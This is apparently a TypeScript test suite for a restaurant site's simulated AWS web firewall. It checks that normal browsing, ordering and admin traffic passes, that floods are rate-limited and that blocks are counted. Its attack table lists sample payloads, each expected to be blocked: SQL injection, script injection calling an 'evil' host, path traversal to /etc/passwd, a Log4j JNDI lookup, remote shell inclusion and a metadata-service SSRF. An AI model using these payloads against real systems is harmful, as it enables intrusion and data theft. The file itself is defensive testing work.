import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Rule } from '@aws-sdk/client-wafv2';
import { TestFirewall, type ViewOptions } from '../../runtime/services/wafv2/wafv2-for-tests.ts';

/** app/site/api.js, what of it is called here. */
interface SiteApi {
  fetchMenu(): Promise<unknown>;
  fetchPages(): Promise<unknown>;
  fetchHours(): Promise<unknown>;
  fetchTimes(when: { day: string; party: number }): Promise<unknown>;
  fetchOrder(id: string): Promise<unknown>;
  fetchReservation(id: string): Promise<unknown>;
  cancelReservation(id: string): Promise<unknown>;
  postOrder(order: { key: string; body: string }): Promise<unknown>;
  postReservation(reservation: { key: string; body: string }): Promise<unknown>;
}

const siteFolder = join(import.meta.dirname, '../../app/site');
const floodLimit = 100;
const form = (fields: Record<string, string>): ViewOptions => ({
  method: 'POST',
  headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: 'session=5f2b9c; csrf=9d1e' },
  body: new URLSearchParams({ csrf: '9d1e', ...fields }).toString(),
});

/** W-B3, W-C3: the firewall as `web-classic` sets it up, before the requests that the restaurant's own pages make. */
describe("the restaurant's firewall", () => {
  let firewall: TestFirewall;
  let site: Awaited<ReturnType<TestFirewall['site']>>;
  const counted = new Map<string, number>();

  before(async () => {
    firewall = await TestFirewall.start();
    firewall.orrery.kernel.events.on('metric', ({ namespace, name, dimensions, value }) => {
      if (namespace !== 'AWS/WAFV2' || name !== 'BlockedRequests') return;
      const rule = dimensions.Rule ?? '';
      counted.set(rule, (counted.get(rule) ?? 0) + value);
    });
    const managed = ['AmazonIpReputationList', 'CommonRuleSet', 'KnownBadInputsRuleSet', 'SQLiRuleSet'];
    const flood: Rule = {
      ...firewall.rule('Flood', {
        RateBasedStatement: { Limit: floodLimit, EvaluationWindowSec: 300, AggregateKeyType: 'IP' },
      }),
      Action: { Block: { CustomResponse: { ResponseCode: 429 } } },
    };
    site = await firewall.site([
      flood,
      ...managed.map((name) => {
        const Name = `AWSManagedRules${name}`;
        return firewall.group(Name, { ManagedRuleGroupStatement: { VendorName: 'AWS', Name } });
      }),
    ]);
  });
  after(() => firewall.orrery.stop());

  test('W-C3: lets a day of browsing, ordering, reserving and editing through', async () => {
    const requests = [...(await madeByTheSite()), ...pages(), ...madeByTheAdmin()];
    const blocked: string[] = [];
    for (const [index, [url, options]] of requests.entries()) {
      const { status } = await site.view(url, { ...options, ip: `198.51.100.${index % 50}` });
      if (status !== 200) blocked.push(`${status} ${url} ${options?.body ?? ''}`);
    }
    assert.deepEqual(blocked, []);
    assert.ok(requests.length > 60, String(requests.length));
  });

  const attacks: Record<string, [url: string, options?: ViewOptions][]> = {
    'SQL injection': [
      ["/api/orders/1'%20OR%20'1'='1"],
      ['/api/orders?day=1%20UNION%20SELECT%20password%20FROM%20users--'],
    ],
    'script in a field': [
      ['/api/orders', { ...form({ note: '<script>fetch("//evil")</script>' }) }],
      ['/?q=<svg/onload=alert(1)>'],
    ],
    'path traversal': [['/images/..%2f..%2fetc%2fpasswd'], ['/?file=../../../../etc/passwd']],
    'a bad bot': [
      ['/', { headers: { 'user-agent': '' } }],
      ['/', { headers: { 'user-agent': 'nessus' } }],
    ],
    'Log4j lookups': [['/', { headers: { 'x-api-version': '$' + '{jndi:ldap://evil.example/a}' } }]],
    'inclusion of files from elsewhere': [['/?page=http://192.0.2.66/shell.php']],
    'requests to the metadata service': [['/?url=http://169.254.169.254/latest/meta-data/']],
  };
  for (const [kind, tries] of Object.entries(attacks)) {
    test(`W-C3: blocks ${kind}`, async () => {
      for (const [url, options] of tries) {
        const { status } = await site.view(url, { ...options, ip: '203.0.113.66' });
        assert.equal(status, 403, url);
      }
    });
  }

  test('W-C3: sheds a flood by its address, and nobody else', async () => {
    const statuses = new Map<number, number>();
    for (let index = 0; index < floodLimit * 2; index += 1) {
      const { status } = await site.view('/api/menu', { ip: '203.0.113.99' });
      statuses.set(status, (statuses.get(status) ?? 0) + 1);
    }
    assert.ok((statuses.get(429) ?? 0) >= floodLimit * 0.9, JSON.stringify([...statuses]));
    assert.equal((await site.view('/api/menu', { ip: '198.51.100.7' })).status, 200);
  });

  test('W-B3: counts what it blocked, by rule', async () => {
    await firewall.orrery.clock.wind(120_000);
    const tries = Object.values(attacks).flat().length;
    const groups = [
      'AWSManagedRulesCommonRuleSet',
      'AWSManagedRulesKnownBadInputsRuleSet',
      'AWSManagedRulesSQLiRuleSet',
    ];
    const byGroup = groups.map((name) => counted.get(name) ?? 0);
    assert.ok(
      byGroup.every((count) => count > 0),
      JSON.stringify([...counted]),
    );
    assert.equal(
      byGroup.reduce((sum, count) => sum + count, 0),
      tries,
    );
    assert.ok((counted.get('Flood') ?? 0) >= floodLimit * 0.9);
    assert.equal(counted.get('ALL'), tries + (counted.get('Flood') ?? 0));
  });
});

/** What the site's own code asks of the restaurant's API, caught on its way. */
async function madeByTheSite(): Promise<[string, ViewOptions][]> {
  const api = (await import(join(siteFolder, 'api.js'))) as SiteApi;
  const made: [string, ViewOptions][] = [];
  const before = globalThis.fetch;
  globalThis.fetch = (async (path: string, options: RequestInit = {}) => {
    const { method = 'GET', headers = {}, body } = options;
    const sent = { ...(headers as Record<string, string>), accept: '*/*', 'sec-fetch-mode': 'cors' };
    made.push([path, { method, headers: sent, ...(body ? { body: String(body) } : {}) }]);
    return Response.json({ pages: [] });
  }) as typeof fetch;
  try {
    await api.fetchMenu();
    await api.fetchPages();
    await api.fetchHours();
    await api.fetchTimes({ day: '2026-12-24', party: 4 });
    for (const [index, [name, email, note]] of guests.entries()) {
      const key = `0d3f5a1e-8c0b-4c57-9a6e-${String(index).padStart(12, '0')}`;
      const customer = { name, email, phone: '+44 1728 555 010' };
      const items = [{ sku: 'chips', quantity: 1 + index }];
      await api.postOrder({ key, body: JSON.stringify({ customer, items, note }) });
      await api.fetchOrder(`ord_01JDC${index}8Q4`);
      const reservation = { customer, day: '2026-12-24', time: '19:30', party: 2, note };
      await api.postReservation({ key, body: JSON.stringify(reservation) });
      await api.fetchReservation(`res_01JDC${index}8Q4`);
      await api.cancelReservation(`res_01JDC${index}8Q4`);
    }
  } finally {
    globalThis.fetch = before;
  }
  return made;
}

/** Names and notes that look like trouble to a careless rule. */
const guests = [
  ['Ada Fisher', 'ada@example.com', 'No onions; extra salt & vinegar, please -- thanks!'],
  ["Siobhán O'Brien", 'siobhan.o-brien@example.ie', "It's our daughter's birthday: 7 candles?"],
  ['Jean-Luc d’Arcy', 'jl+table@example.fr', 'Une table près de la fenêtre, s’il vous plaît (2 adultes + 1 enfant)'],
  ['Null Ortega', 'null@example.es', 'Select a quiet table from the left side, or drop us a line'],
  ['李小龍', 'bruce@example.hk', '不要辣 / no chili, 50% less rice'],
  ['Tom "Tiny" Smith', 'tom@example.com', 'Allergies: nuts, fish and shellfish. 1 or 2 of us may come = late'],
  ['Zoë Müller', 'zoe@example.de', 'Is the union jack cake on the menu? https://example.com/cake.html'],
] as const;

/** The site's files, as a browser loads them with a page before. */
function pages(): [string, ViewOptions][] {
  const headers = {
    referer: 'https://www.example.com/?utm_source=news&utm_campaign=christmas',
    'accept-language': 'de-CH,de;q=0.9,en;q=0.8',
    cookie: 'theme=dark; basket={"chips":2}',
  };
  return readdirSync(siteFolder)
    .filter((file) => /\.(html|css|js)$/.test(file))
    .map((file) => [`/${file}`, { headers }]);
}

/** The forms of the admin's pages (app/services/content/admin). */
function madeByTheAdmin(): [string, ViewOptions][] {
  const text = {
    title: 'Weddings & Wakes',
    body: '# Weddings\n\nWe seat **80** -- or 120 standing; ask for *Ann*.\n\n- From £35 a head\n- [See the hall](/pages/hall)\n',
  };
  return [
    ['/admin/sign-in', form({ email: 'admin@example.com', password: "c0rrect-h0rse; battery'staple" })],
    ['/admin/pages', form({ title: 'Weddings & Wakes' })],
    ['/admin/pages/weddings-wakes', form({ ...text, do: 'save' })],
    ['/admin/pages/weddings-wakes', form({ ...text, do: 'publish' })],
    ['/admin/menu/chips', form({ name: "Fisherman's chips", price: '3.50', description: 'Fried twice, 100% potato' })],
    ['/admin/orders/ord_1', form({ status: 'ready' })],
    ['/admin/reservations?day=2026-11-27'],
    ['/admin/images', form({ alt: 'The "slip" at low tide', type: 'image/png' })],
  ] as [string, ViewOptions][];
}
